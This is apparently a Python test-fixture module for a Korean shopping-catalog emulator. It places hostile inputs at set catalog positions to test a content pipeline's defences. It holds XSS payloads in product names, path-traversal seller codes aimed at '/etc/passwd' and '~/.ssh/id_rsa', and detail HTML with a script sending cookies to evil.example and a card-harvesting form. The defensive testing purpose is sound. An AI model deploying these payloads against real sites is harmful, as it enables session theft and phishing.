"""What real sellers put in a catalog that a content pipeline must survive: markup in product
names, path-like SKUs, script-laden detail HTML, and product videos, some of them broken.

Quirks are placed by a product's position in the catalog, not drawn from the catalog's random
generator, so every existing seed keeps its products and any catalog of 50 or more products has
at least one product of each kind.
"""

from __future__ import annotations

from dataclasses import dataclass

VIDEO_OK, VIDEO_BROKEN, VIDEO_MISSING = "ok", "broken", "missing"

HOSTILE_NAMES: tuple[str, ...] = (
    '<script>alert("name")</script> 캠핑 의자',
    '"><img src=x onerror=alert(1)> 무선 이어폰',
    '</h2><iframe src="javascript:alert(1)"></iframe> 스테인리스 텀블러',
    "{{ 7*7 }} {% raw %} 템플릿 특가 세트",
    '<a href="javascript:alert(1)">클릭</a> 유기농 현미 4kg',
)

# sellerManagementCode is free text; none of these may ever become a path.
HOSTILE_SELLER_CODES: tuple[str, ...] = (
    "../../x",
    "../../../etc/passwd",
    "a/b/c",
    "..\\..\\windows\\system32",
    "/abs/olute",
    "~/.ssh/id_rsa",
    "%2e%2e%2fx",
)

# Appended to a product's detailContent. The <img> lists alt before src on purpose: the
# emulator's own images are the only ones written `<img src=`.
HOSTILE_DETAIL_HTML = "\n".join(  # noqa: FLY002 - one payload per line reads better
    (
        "<script>document.location='https://evil.example/?c='+document.cookie</script>",
        '<p onclick="alert(1)" onmouseover="alert(2)">지금 클릭하면 쿠폰 증정!</p>',
        '<iframe src="https://evil.example/frame" width="1" height="1"></iframe>',
        '<iframe src="javascript:alert(1)"></iframe>',
        (
            '<p><a href="javascript:alert(1)">쿠폰 받기</a> <a href="JaVaScRiPt:alert(2)">쿠폰</a> '
            '<a href="&#106;avascript:alert(3)">한 번 더</a> <a href="https://smartstore.naver.com/">스토어 바로가기</a></p>'
        ),
        '<img alt="배너" src="https://evil.example/x.gif" onerror="alert(1)">',
        '<svg onload="alert(1)"><circle r="1"></circle></svg>',
        "<style>body { display: none }</style>",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<form action="https://evil.example/steal"><input name="card"><button>결제</button></form>',
        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
        '<p style="background:url(javascript:alert(1)); color:#e4002b; position:fixed; top:0">오늘만 특가</p>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        "<p><b>정품</b> <i>보증</i> <u>무료 반품</u></p>",
    )
)


@dataclass(frozen=True)
class Quirks:
    name: str | None = None  # replaces the generated name
    seller_management_code: str | None = None  # replaces the generated SKU
    hostile_detail: bool = False
    video: str | None = None  # VIDEO_OK, VIDEO_BROKEN, VIDEO_MISSING or None


NONE = Quirks()


def quirks_at(index: int) -> Quirks:
    """The quirks of the product at catalog position `index` (most have none)."""
    name = HOSTILE_NAMES[(index // 23) % len(HOSTILE_NAMES)] if index % 23 == 5 else None
    code = HOSTILE_SELLER_CODES[(index // 19) % len(HOSTILE_SELLER_CODES)] if index % 19 == 7 else None
    hostile_detail = index % 13 == 2
    # Every 11th product has a video; of those, 2 in 4 play, 1 is cut short, 1 is gone (404).
    video = (VIDEO_OK, VIDEO_BROKEN, VIDEO_OK, VIDEO_MISSING)[(index // 11) % 4] if index % 11 == 3 else None
    if name is None and code is None and not hostile_detail and video is None:
        return NONE
    return Quirks(name, code, hostile_detail, video)
